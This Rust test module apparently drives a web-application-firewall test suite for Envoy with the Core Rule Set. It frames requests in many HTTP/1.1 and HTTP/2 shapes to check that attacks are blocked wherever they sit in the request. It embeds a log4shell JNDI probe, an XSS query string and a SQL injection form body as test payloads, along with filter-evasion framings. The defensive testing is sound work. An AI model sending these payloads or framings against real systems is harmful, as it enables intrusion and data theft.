//! The framings: what a request consists of, and the ways to put it on the wire.

use std::time::Duration;

use glacis_tests::frames::{Fields, Frame, fields};
use glacis_tests::http::{BROWSER, HOST};

/// Between parts of a request that are not to arrive together.
pub(crate) const PAUSE: Duration = Duration::from_millis(60);

/// Where the attack is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    None,
    Query,
    Header,
    Body,
    Trailer,
}

impl Attack {
    pub(crate) const ALL: [Self; 5] =
        [Self::None, Self::Query, Self::Header, Self::Body, Self::Trailer];
}

/// Whether a framing has trailers, and what Envoy makes of them.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Trailers {
    /// It has none.
    None,
    /// They are there before the verdict: rules see them.
    Seen,
    /// They may come after the verdict on the body: rules see them, or no upstream does.
    AfterBody,
    /// Envoy takes them away.
    Dropped,
}

/// A log4shell probe: CRS looks for it in every header field, in phase 2.
pub(crate) const PROBE: &str = "${jndi:ldap://192.0.2.1/a}";

/// What a request consists of, before it is framed.
#[derive(Clone, Debug)]
pub(crate) struct Parts {
    pub(crate) path: String,
    /// The value of the header field `x-api-version`.
    pub(crate) version: &'static str,
    /// A form.
    pub(crate) body: Vec<u8>,
    pub(crate) trailers: Fields,
}

impl Parts {
    /// A request on the route with this prefix.
    pub(crate) fn new(route: &str, attack: Attack) -> Self {
        let either = |place, hostile, harmless| if attack == place { hostile } else { harmless };
        let query = either(Attack::Query, "%3Cscript%3Ealert(1)%3C/script%3E", "winter");
        let body = either(Attack::Body, "user=1'+UNION+SELECT+password+FROM+users--", "user=Ada");
        let trailer = either(Attack::Trailer, PROBE, "8f14e45f");
        Self {
            path: format!("{route}/echo?q={query}"),
            version: either(Attack::Header, PROBE, "3"),
            body: body.as_bytes().to_vec(),
            trailers: vec![("x-checksum".to_owned(), trailer.to_owned())],
        }
    }

    pub(crate) fn harmless_trailers() -> Fields {
        Self::new("", Attack::None).trailers
    }

    fn headers(&self, method: &str, end_stream: bool) -> Frame {
        self.headers_with(method, &[], end_stream)
    }

    /// With further fields. What has no body has no type either.
    fn headers_with(&self, method: &str, more: &[(&str, &str)], end_stream: bool) -> Frame {
        Frame::Headers { fields: self.fields(method, more), pieces: 1, end_stream }
    }

    fn fields(&self, method: &str, more: &[(&str, &str)]) -> Fields {
        let mut own = vec![("x-api-version", self.version)];
        own.extend(more);
        fields(method, &self.path, &own)
    }

    fn trailers(&self) -> Frame {
        Frame::Trailers(self.trailers.clone())
    }

    fn length(&self) -> String {
        self.body.len().to_string()
    }
}

/// A request on the wire.
#[derive(Clone, Debug)]
pub(crate) enum Sent {
    Http2(Vec<Frame>),
    /// Pieces with a pause between.
    Http1 {
        method: &'static str,
        pieces: Vec<Vec<u8>>,
    },
}

/// A way to frame a request.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Framing {
    pub(crate) name: &'static str,
    pub(crate) has_body: bool,
    pub(crate) trailers: Trailers,
    /// The statuses of a harmless request. 403 where CRS objects to the framing itself.
    pub(crate) harmless: &'static [u16],
    /// The statuses of an attack.
    pub(crate) hostile: &'static [u16],
    /// Whether the answer says what has reached the upstream.
    pub(crate) is_echoed: bool,
    pub(crate) frame: fn(&Parts) -> Sent,
}

impl Framing {
    const fn new(
        name: &'static str,
        has_body: bool,
        trailers: Trailers,
        frame: fn(&Parts) -> Sent,
    ) -> Self {
        let (harmless, hostile): (&[u16], &[u16]) = (&[200], &[403]);
        Self { name, has_body, trailers, harmless, hostile, is_echoed: true, frame }
    }

    /// Without a body to be compared: nobody says what has reached the upstream.
    const fn unechoed(self) -> Self {
        Self { is_echoed: false, ..self }
    }

    /// CRS objects to it: there the framing is the attack.
    const fn refused(self) -> Self {
        Self { harmless: &[403], ..self }
    }

    /// It asks for a WebSocket, in a way in which there is none (RFC 6455, section 4.1). CRS may object to it as well:
    /// Envoy gives some of them a `Transfer-Encoding` (920171).
    const fn malformed(self) -> Self {
        Self { harmless: &[400, 403], hostile: &[400, 403], ..self }
    }
}

const TYPE: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");
const PAUSED: Frame = Frame::Pause(PAUSE);

/// Frames of HTTP/2 in an order in which they may come.
pub(crate) fn over_http2() -> Vec<Framing> {
    let headers = |name, frame| Framing::new(name, false, Trailers::None, frame);
    let trailers = |name, frame| Framing::new(name, false, Trailers::Seen, frame);
    let body = |name, frame| Framing::new(name, true, Trailers::None, frame);
    let both = |name, frame| Framing::new(name, true, Trailers::AfterBody, frame);
    let empty = |name, frame| Framing::new(name, false, Trailers::AfterBody, frame);
    vec![
        headers("h2 HEADERS", |it| h2([it.headers("POST", true)])),
        headers("h2 GET: HEADERS", |it| h2([it.headers("GET", true)])),
        headers("h2 HEAD: HEADERS", |it| h2([it.headers("HEAD", true)])).unechoed(),
        headers("h2 OPTIONS: HEADERS", |it| h2([it.headers("OPTIONS", true)])),
        headers("h2 HEADERS in four frames", |it| {
            let fields = it.fields("GET", &[]);
            h2([Frame::Headers { fields, pieces: 4, end_stream: true }])
        }),
        headers("h2 HEADERS, empty DATA", |it| {
            h2([it.headers("POST", false), Frame::data(b"", true)])
        }),
        headers("h2 GET: HEADERS, empty DATA", |it| {
            h2([it.headers("GET", false), Frame::data(b"", true)])
        }),
        headers("h2 HEADERS, pause, empty DATA", |it| {
            h2([it.headers("POST", false), PAUSED, Frame::data(b"", true)])
        }),
        // Of DATA without anything in it Envoy takes one in a row.
        headers("h2 HEADERS, empty DATA, pause, DATA of padding", |it| {
            let empty = Frame::data(b"", false);
            h2([it.headers("POST", false), empty, PAUSED, padded(b"", 10, true)])
        }),
        headers("h2 HEADERS, DATA of padding only", |it| {
            h2([it.headers("POST", false), padded(b"", 200, true)])
        }),
        headers("h2 content-length: 0, empty DATA", |it| {
            let headers = it.headers_with("POST", &[("content-length", "0")], false);
            h2([headers, Frame::data(b"", true)])
        }),
        trailers("h2 HEADERS, trailers", |it| h2([it.headers("POST", false), it.trailers()])),
        trailers("h2 GET: HEADERS, trailers", |it| h2([it.headers("GET", false), it.trailers()])),
        trailers("h2 HEAD: HEADERS, trailers", |it| h2([it.headers("HEAD", false), it.trailers()]))
            .unechoed(),
        trailers("h2 HEADERS, pause, trailers", |it| {
            h2([it.headers("POST", false), PAUSED, it.trailers()])
        }),
        empty("h2 HEADERS, empty DATA, trailers", |it| {
            h2([it.headers("POST", false), Frame::data(b"", false), it.trailers()])
        }),
        empty("h2 GET: HEADERS, pause, empty DATA, pause, trailers", |it| {
            let data = Frame::data(b"", false);
            h2([it.headers("GET", false), PAUSED, data, PAUSED, it.trailers()])
        }),
        trailers("h2 HEADERS, PRIORITY, WINDOW_UPDATE, trailers", |it| {
            let window = Frame::WindowUpdate(100);
            h2([it.headers("POST", false), Frame::Priority, window, it.trailers()])
        }),
        body("h2 body", |it| h2([posted(it), Frame::data(&it.body, true)])),
        body("h2 pause, body", |it| h2([posted(it), PAUSED, Frame::data(&it.body, true)])),
        body("h2 body, empty DATA", |it| {
            h2([posted(it), Frame::data(&it.body, false), PAUSED, Frame::data(b"", true)])
        }),
        body("h2 empty DATA, body with padding", |it| {
            h2([posted(it), padded(b"", 0, false), padded(&it.body, 100, true)])
        }),
        body("h2 body in bytes", |it| {
            let last = it.body.len() - 1;
            let data = |(place, byte): (usize, &u8)| Frame::data(&[*byte], place == last);
            h2([posted(it)].into_iter().chain(it.body.iter().enumerate().map(data)))
        }),
        body("h2 body in halves", |it| {
            let (one, two) = it.body.split_at(it.body.len() / 2);
            let one = Frame::data(one, false);
            h2([posted(it), PAUSED, one, Frame::Priority, PAUSED, Frame::data(two, true)])
        }),
        body("h2 content-length, body", |it| {
            let headers = it.headers_with("POST", &[TYPE, ("content-length", &it.length())], false);
            h2([headers, Frame::data(&it.body, true)])
        }),
        body("h2 expect: 100-continue, pause, body", |it| {
            let headers = it.headers_with("POST", &[TYPE, ("expect", "100-continue")], false);
            h2([headers, PAUSED, Frame::data(&it.body, true)])
        }),
        both("h2 body, trailers", |it| {
            h2([posted(it), Frame::data(&it.body, false), it.trailers()])
        }),
        both("h2 pause, body, pause, trailers", |it| {
            h2([posted(it), PAUSED, Frame::data(&it.body, false), PAUSED, it.trailers()])
        }),
        both("h2 content-length, body, trailers", |it| {
            let headers = it.headers_with("POST", &[TYPE, ("content-length", &it.length())], false);
            h2([headers, Frame::data(&it.body, false), it.trailers()])
        }),
        both("h2 body, empty DATA, trailers in two frames of it", |it| {
            let (data, empty) = (Frame::data(&it.body, false), Frame::data(b"", false));
            h2([posted(it), data, PAUSED, empty, it.trailers()])
        }),
    ]
}

fn h2(frames: impl IntoIterator<Item = Frame>) -> Sent {
    Sent::Http2(frames.into_iter().collect())
}

/// The header fields of a form, whose length is not announced.
fn posted(it: &Parts) -> Frame {
    it.headers_with("POST", &[TYPE], false)
}

fn padded(bytes: &[u8], padding: u8, end_stream: bool) -> Frame {
    Frame::Data { bytes: bytes.to_vec(), padding: Some(padding), end_stream }
}

/// Requests of HTTP/1.1 in the shapes that it has; `kept` is what Envoy makes of their trailers.
pub(crate) fn over_http1(kept: Trailers) -> Vec<Framing> {
    let plain = |name, frame| Framing::new(name, false, Trailers::None, frame);
    let body = |name, frame| Framing::new(name, true, Trailers::None, frame);
    let trailed = |name, has_body, frame| {
        let late = has_body && kept == Trailers::Seen;
        Framing::new(name, has_body, if late { Trailers::AfterBody } else { kept }, frame)
    };
    vec![
        plain("h1 GET", |it| h1("GET", [head(it, "GET", "")])),
        plain("h1 HEAD", |it| h1("HEAD", [head(it, "HEAD", "")])).unechoed(),
        plain("h1 content-length: 0", |it| h1("POST", [head(it, "POST", "content-length: 0\r\n")])),
        plain("h1 no chunk but the last", |it| {
            h1("POST", [[head(it, "POST", CHUNKED), b"0\r\n\r\n".to_vec()].concat()])
        }),
        plain("h1 pause, no chunk but the last", |it| {
            h1("POST", [head(it, "POST", CHUNKED), b"0\r\n\r\n".to_vec()])
        }),
        trailed("h1 no chunk but the last, trailers", false, |it| {
            h1("POST", [[head(it, "POST", CHUNKED), b"0\r\n".to_vec(), trailers(it)].concat()])
        }),
        trailed("h1 pause, no chunk but the last, pause, trailers", false, |it| {
            h1("POST", [head(it, "POST", CHUNKED), b"0\r\n".to_vec(), trailers(it)])
        }),
        body("h1 content-length", |it| h1("POST", [[announced(it, ""), it.body.clone()].concat()])),
        body("h1 content-length, pause", |it| h1("POST", [announced(it, ""), it.body.clone()])),
        body("h1 chunked", |it| h1("POST", [[chunked(it), last_chunk(it)].concat()])),
        body("h1 chunked, pause", |it| h1("POST", [chunked(it), last_chunk(it)])),
        body("h1 chunked in bytes with extensions", |it| {
            let mut bytes = chunked(it);
            for byte in &it.body {
                bytes.extend_from_slice(&[b"1;a=b\r\n", &[*byte][..], b"\r\n"].concat());
            }
            bytes.extend_from_slice(b"0\r\n\r\n");
            h1("POST", [bytes])
        }),
        body("h1 expect: 100-continue, pause", |it| {
            h1("POST", [announced(it, EXPECT), it.body.clone()])
        }),
        body("h1 expect: 100-continue", |it| {
            h1("POST", [[announced(it, EXPECT), it.body.clone()].concat()])
        }),
        body("h1 expect: 100-continue, chunked, pause", |it| {
            let head = head(it, "POST", &format!("{FORM}{EXPECT}{CHUNKED}"));
            h1("POST", [head, last_chunk(it)])
        }),
        trailed("h1 chunked, trailers", true, |it| {
            h1("POST", [[chunked(it), chunk(it), b"0\r\n".to_vec(), trailers(it)].concat()])
        }),
        trailed("h1 chunked, pause, trailers", true, |it| {
            h1("POST", [chunked(it), chunk(it), b"0\r\n".to_vec(), trailers(it)])
        }),
        body("h1 GET with a body", |it| {
            let head = head(it, "GET", &format!("{FORM}content-length: {}\r\n", it.length()));
            h1("GET", [[head, it.body.clone()].concat()])
        })
        .refused(),
        body("h1 HEAD with a body", |it| {
            let head = head(it, "HEAD", &format!("{FORM}content-length: {}\r\n", it.length()));
            h1("HEAD", [[head, it.body.clone()].concat()])
        })
        .refused(),
        body("h1 GET, chunked", |it| {
            let head = head(it, "GET", &format!("{FORM}{CHUNKED}"));
            h1("GET", [[head, last_chunk(it)].concat()])
        })
        .refused(),
    ]
}

/// Requests that ask for a WebSocket. Envoy sees no end of them: whatever follows the header fields belongs to what is
/// asked for.
pub(crate) fn upgrades() -> Vec<Framing> {
    let row = |name, frame| Framing::new(name, false, Trailers::None, frame).unechoed();
    vec![
        // `/echo` is none, so that the upstream answers 200 as to every request.
        row("h2 extended CONNECT", |it| {
            let mut fields = it.fields("CONNECT", &[("sec-websocket-version", "13")]);
            fields.insert(1, (":protocol".to_owned(), "websocket".to_owned()));
            h2([Frame::Headers { fields, pieces: 1, end_stream: false }])
        }),
        row("h1 GET, upgrade", |it| h1("GET", [head(it, "GET", &keyed(""))])),
        row("h1 GET, upgrade without a key", |it| h1("GET", [head(it, "GET", UPGRADE)]))
            .malformed(),
        row("h1 GET, upgrade without a key, pause, bytes", |it| {
            h1("GET", [head(it, "GET", UPGRADE), it.body.clone()])
        })
        .malformed(),
        row("h1 HEAD, upgrade without a key", |it| h1("HEAD", [head(it, "HEAD", UPGRADE)]))
            .malformed(),
        row("h1 POST, upgrade without a key", |it| {
            h1("POST", [head(it, "POST", &format!("{UPGRADE}content-length: 0\r\n"))])
        })
        .malformed(),
        row("h1 HEAD, upgrade", |it| h1("HEAD", [head(it, "HEAD", &keyed(""))])).malformed(),
        row("h1 POST, upgrade", |it| {
            h1("POST", [head(it, "POST", &keyed("content-length: 0\r\n"))])
        })
        .malformed(),
        row("h1 POST, upgrade, body", |it| {
            let length = format!("{FORM}content-length: {}\r\n", it.length());
            h1("POST", [[head(it, "POST", &keyed(&length)), it.body.clone()].concat()])
        })
        .malformed(),
        row("h1 GET, upgrade, length of a body", |it| {
            let length = format!("content-length: {}\r\n", it.length());
            h1("GET", [[head(it, "GET", &keyed(&length)), it.body.clone()].concat()])
        })
        .malformed(),
        row("h1 POST, upgrade, chunked", |it| {
            let fields = keyed(&format!("{FORM}{CHUNKED}"));
            h1("POST", [[head(it, "POST", &fields), last_chunk(it)].concat()])
        })
        .malformed(),
    ]
}

/// The header fields of a handshake (RFC 6455, section 1.3), and others.
fn keyed(more: &str) -> String {
    format!("{UPGRADE}sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n{more}")
}

const CHUNKED: &str = "transfer-encoding: chunked\r\n";
const EXPECT: &str = "expect: 100-continue\r\n";
const FORM: &str = "content-type: application/x-www-form-urlencoded\r\n";
const UPGRADE: &str = "connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n";

fn h1(method: &'static str, pieces: impl IntoIterator<Item = Vec<u8>>) -> Sent {
    Sent::Http1 { method, pieces: pieces.into_iter().collect() }
}

fn head(it: &Parts, method: &str, more: &str) -> Vec<u8> {
    let mut head = format!("{method} {} HTTP/1.1\r\nhost: {HOST}\r\n", it.path);
    for (name, value) in BROWSER {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    head.push_str(&format!("x-api-version: {}\r\n{more}\r\n", it.version));
    head.into_bytes()
}

/// Header fields that announce the body's length.
fn announced(it: &Parts, more: &str) -> Vec<u8> {
    head(it, "POST", &format!("{FORM}{more}content-length: {}\r\n", it.length()))
}

fn chunked(it: &Parts) -> Vec<u8> {
    head(it, "POST", &format!("{FORM}{CHUNKED}"))
}

fn chunk(it: &Parts) -> Vec<u8> {
    [format!("{:x}\r\n", it.body.len()).as_bytes(), &it.body, b"\r\n"].concat()
}

/// The body in one chunk, and the end.
fn last_chunk(it: &Parts) -> Vec<u8> {
    [&chunk(it)[..], b"0\r\n\r\n"].concat()
}

fn trailers(it: &Parts) -> Vec<u8> {
    let lines = it.trailers.iter().map(|(name, value)| format!("{name}: {value}\r\n"));
    format!("{}\r\n", lines.collect::<String>()).into_bytes()
}
